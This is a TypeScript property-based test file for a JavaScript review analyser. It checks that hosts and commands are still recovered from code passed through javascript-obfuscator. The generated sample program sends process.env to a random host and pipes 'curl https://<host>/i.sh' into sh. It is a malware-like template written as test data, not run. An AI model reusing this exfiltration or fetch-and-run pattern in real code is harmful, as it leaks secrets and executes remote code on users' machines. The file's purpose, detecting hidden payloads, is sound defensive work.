/**
 * String arrays as the real obfuscator writes them: generated programs, obfuscated by javascript-obfuscator
 * (a dev dependency; its output is read as data, never run) under generated options (rotation and shuffle,
 * no/base64/RC4 encoding, 0-4 wrappers of either type, chained wrappers, index types and shifts). The
 * model must find the target the code sends to or runs, whatever the options; and when the checksum
 * cannot be met it must say nothing rather than guess a rotation.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import JavaScriptObfuscator from "javascript-obfuscator";
import { analyzeJs } from "../../src/review/facts/collect.js";

const label = fc.stringMatching(/^[a-z][a-z0-9]{2,9}$/);
const host = fc
  .tuple(label, label, fc.constantFrom("net", "io", "com", "dev"))
  .map(([a, b, t]) => `${a}-${b}.${t}`);

function program(h: string, path: string): string {
  return [
    'const https = require("https");',
    'const { execSync } = require("child_process");',
    `function send(data) { const req = https.request({ hostname: "${h}", path: "${path}", method: "POST" }); req.end(JSON.stringify(data)); }`,
    `function update() { return execSync("curl -fsSL https://${h}/i.sh | sh"); }`,
    "send(process.env);",
    "update();",
  ].join("\n");
}

const options = fc.record({
  stringArrayEncoding: fc.constantFrom([], ["base64"], ["rc4"]),
  stringArrayWrappersCount: fc.integer({ min: 0, max: 4 }),
  stringArrayWrappersType: fc.constantFrom("variable", "function"),
  stringArrayWrappersChainedCalls: fc.boolean(),
  stringArrayWrappersParametersMaxCount: fc.integer({ min: 2, max: 5 }),
  stringArrayIndexesType: fc.constantFrom(["hexadecimal-number"], ["hexadecimal-numeric-string"]),
  stringArrayIndexShift: fc.boolean(),
  stringArrayRotate: fc.boolean(),
  stringArrayShuffle: fc.boolean(),
  seed: fc.integer({ min: 1, max: 1_000_000 }),
});

function obfuscate(src: string, o: object): string {
  return JavaScriptObfuscator.obfuscate(src, {
    stringArray: true,
    stringArrayThreshold: 1,
    target: "node",
    ...o,
  }).getObfuscatedCode();
}

describe("string arrays (the real obfuscator, generated options)", () => {
  it("the request's host and the command's text come back, whatever the options", () => {
    fc.assert(
      fc.property(host, fc.stringMatching(/^\/[a-z]{1,8}$/), options, (h, path, o) => {
        const facts = analyzeJs(obfuscate(program(h, path), o), "x.js");
        const network = facts.capabilities.filter((c) => c.family === "network").map((c) => c.target);
        assert.ok(network.includes(h), `request to ${h}: ${JSON.stringify(network)} (${JSON.stringify(o)})`);
        const exec = facts.capabilities.filter((c) => c.family === "exec").map((c) => c.target ?? "");
        assert.ok(
          exec.some((t) => t.includes(`https://${h}/i.sh`)),
          `command naming ${h}: ${JSON.stringify(exec)} (${JSON.stringify(o)})`,
        );
      }),
      { numRuns: 40, seed: 21 },
    );
  });

  it("hidden text is among the strings, marked decoded, when the array encodes it", () => {
    const code = obfuscate(program("collect-metrics.net", "/c"), { stringArrayEncoding: ["rc4"], seed: 5 });
    assert.ok(!code.includes("collect-metrics.net"), "the obfuscated file does not spell the host");
    const facts = analyzeJs(code, "x.js");
    assert.ok(facts.strings.some((s) => s.decoded && s.value === "collect-metrics.net"));
  });

  it("a rotation whose checksum no candidate meets resolves nothing (no guessed rotation)", () => {
    const code = obfuscate(program("collect-metrics.net", "/c"), { stringArrayRotate: true, seed: 9 });
    // The loop's target is the second argument of the rotating call: change it and no rotation matches.
    const tampered = code.replace(
      /\}\((_0x[0-9a-f]+),(0x[0-9a-f]+)\)\);/,
      (_m, a, n) => `}(${a},${Number(n) + 1}));`,
    );
    assert.notEqual(tampered, code);
    const facts = analyzeJs(tampered, "x.js");
    const network = facts.capabilities.filter((c) => c.family === "network" && c.target);
    assert.deepEqual(
      network.map((c) => c.target),
      [],
      "no host is guessed from a wrong rotation",
    );
  });

  it("ordinary code with an offset accessor of a constant array reads as JavaScript would", () => {
    const facts = analyzeJs(
      'const PARTS = ["api", "example.org"]; function part(i) { i = i - 1; return PARTS[i]; } fetch("https://" + part(1) + "." + part(2));',
      "x.js",
    );
    assert.ok(
      facts.capabilities.some((c) => c.family === "network" && c.target === "https://api.example.org"),
    );
  });
});
